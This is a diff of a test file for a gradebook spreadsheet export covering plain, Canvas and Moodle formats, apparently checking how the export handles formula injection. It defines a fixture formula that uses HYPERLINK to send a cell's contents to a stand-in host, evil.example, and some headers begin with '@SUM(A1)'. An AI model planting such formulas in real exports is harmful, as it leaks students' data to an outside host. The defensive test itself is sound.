@@ -108,7 +108,7 @@ test('An override decides, with its reason in the audit log, until it is revoked
 const EVIL = '=HYPERLINK("https://evil.example?"&A1,"Ada")';
 
 test.each([
-  ['plain', ['Name', 'Email', 'Section', 'Reduction (of 100)', '@SUM(A1) (of 100)', 'Total', 'Late days spent'], 0, 3],
+  ['plain', ['Name', 'Email', 'Section', 'Reduction (of 100)', '@SUM(A1) (of 100)', 'Total (of 200)', 'Late days spent'], 0, 3],
   ['canvas', ['Student', 'ID', 'SIS User ID', 'SIS Login ID', 'Section', 'Reduction', '@SUM(A1)'], 0, 5],
   [
     'moodle',
